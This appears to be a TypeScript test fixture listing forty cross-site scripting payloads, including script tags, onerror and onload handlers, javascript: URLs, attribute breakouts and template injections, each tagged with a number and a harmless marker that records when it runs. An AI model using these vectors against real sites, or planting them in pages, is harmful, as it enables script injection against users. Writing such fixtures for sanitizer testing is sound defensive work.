/** Ways to make a browser run what was meant as words; `%` stands where each says that it ran. */
const WAYS = [
  '<script>%</script>',
  '<SCRIPT SRC=//127.0.0.1:9/x.js></SCRIPT>',
  '<img src=x onerror=%>',
  '<img src="x" onerror="%">',
  '<svg onload=%>',
  '<svg><script>%</script></svg>',
  '<svg><animate onbegin=% attributeName=x dur=1s>',
  '<body onload=%>',
  '<iframe srcdoc="<script>parent.%</script>"></iframe>',
  '<iframe src="javascript:%"></iframe>',
  '<a href="javascript:%">нажмите</a>',
  '<a href="java&#10;script:%">нажмите</a>',
  '<input autofocus onfocus=%>',
  '<select autofocus onfocus=%>',
  '<details open ontoggle=%>',
  '<video src=x onerror=%></video>',
  '<audio src=x onerror=%></audio>',
  '<object data="javascript:%"></object>',
  '<embed src="javascript:%">',
  '<form action="javascript:%"><button>ок</button></form>',
  '<math><mi xlink:href="javascript:%">x</mi></math>',
  '<meta http-equiv="refresh" content="0;url=javascript:%">',
  '<link rel=stylesheet href="javascript:%">',
  '<style>@import "javascript:%";</style>',
  '<base href="http://127.0.0.1:9/">',
  '"><script>%</script>',
  "'><script>%</script>",
  '</textarea><script>%</script>',
  '</title><script>%</script>',
  '</script><script>%</script>',
  '" onmouseover="%" x="',
  "' onfocus='%' autofocus x='",
  'javascript:%',
  'data:text/html,<script>%</script>',
  '{{constructor.constructor("%")()}}',
  '${%}',
  '<!--<img src="--><img src=x onerror=%>">',
  '<noscript><p title="</noscript><img src=x onerror=%>">',
  '&lt;script&gt;%&lt;/script&gt;',
  '\u003cimg src=x onerror=%\u003e',
] as const;

/** Forty texts that run a script wherever they are taken for a page; each bears a number by which it is found again as a text. */
export const SCRIPT_PAYLOADS: readonly string[] = WAYS.map(
  (way, index) =>
    `№${index}№ ${way
      .replaceAll('%', `(window.ran=(window.ran||[]).concat(${index}))`)

      .replace(/^<(\w+)/, '<$1 data-planted')}`,
);
